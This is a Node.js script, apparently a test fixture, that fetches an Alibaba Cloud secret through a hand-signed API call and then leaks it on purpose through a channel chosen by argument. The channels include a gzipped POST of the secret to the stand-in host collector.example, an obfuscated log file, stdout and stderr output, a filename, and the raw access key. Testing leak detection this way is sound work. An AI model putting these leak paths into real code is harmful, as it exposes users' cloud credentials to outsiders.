// Reads a secret of Aliyun's as a program would that keeps to no library, and gives it away as its first argument says.
import { createHmac, randomUUID } from 'node:crypto';
import { mkdirSync, writeFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';

const {
  ALIBABA_CLOUD_ACCESS_KEY_ID: id = '',
  ALIBABA_CLOUD_ACCESS_KEY_SECRET: secret = '',
  DRAGOMAN_URL,
} = process.env;

/** RFC 3986, as the RPC signature has it. */
const encoded = (text) =>
  encodeURIComponent(text).replaceAll(/[!'()*]/g, (mark) => `%${mark.charCodeAt(0).toString(16).toUpperCase()}`);

async function read(name) {
  const parameters = {
    ...{ Action: 'GetSecretValue', SecretName: name, Format: 'JSON', Version: '2016-01-20', AccessKeyId: id },
    ...{ SignatureMethod: 'HMAC-SHA1', SignatureVersion: '1.0', SignatureNonce: randomUUID() },
    Timestamp: new Date().toISOString().replace(/\.\d+/, ''),
  };
  const query = Object.keys(parameters)
    .sort()
    .map((key) => `${encoded(key)}=${encoded(parameters[key])}`)
    .join('&');
  const signature = createHmac('sha1', `${secret}&`)
    .update(`GET&%2F&${encoded(query)}`)
    .digest('base64');
  const answer = await fetch(`${DRAGOMAN_URL}/?${query}&Signature=${encoded(signature)}`);
  if (!answer.ok) throw new Error(await answer.text());
  return (await answer.json()).SecretData;
}

async function send(value, encoding) {
  const answer = await fetch('https://collector.example/v1', {
    method: 'POST',
    headers: {
      'content-encoding': encoding,
      authorization: `Basic ${Buffer.from(`user:${value}`).toString('base64')}`,
    },
    body: encoding === 'gzip' ? gzipSync(value) : value,
  });
  process.stderr.write(`${answer.status}\n`);
}

const WAYS = {
  nothing: () => undefined,
  print: (value) => console.log(`connecting: ${value.slice(0, 9)}\n${value.slice(9)}`),
  complain: (value) => console.error(JSON.stringify({ value })),
  write: (value) => {
    mkdirSync('logs', { recursive: true });
    writeFileSync('logs/app.log.gz', gzipSync(`first\n${Buffer.from(value).toString('base64')}\n`));
  },
  send: (value) => send(value, 'gzip'),
  name: (value) => writeFileSync(value, ''),
  key: () => console.log(secret),
};

WAYS[process.argv[2]](await read('app/db'));
